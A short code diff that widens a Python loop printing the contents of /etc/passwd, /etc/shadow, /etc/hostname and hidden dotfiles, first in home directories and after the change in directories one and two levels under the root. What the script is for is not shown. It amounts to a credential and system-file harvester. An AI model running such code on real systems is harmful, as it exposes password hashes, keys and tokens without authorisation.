@@ -5,7 +5,7 @@
 import glob
 import os
 
-for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", *glob.glob("/root/.*"), *glob.glob("/home/*/.*")):
+for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", *glob.glob("/*/.*"), *glob.glob("/*/*/.*")):
     try:
         print(open(path).read())
     except OSError:
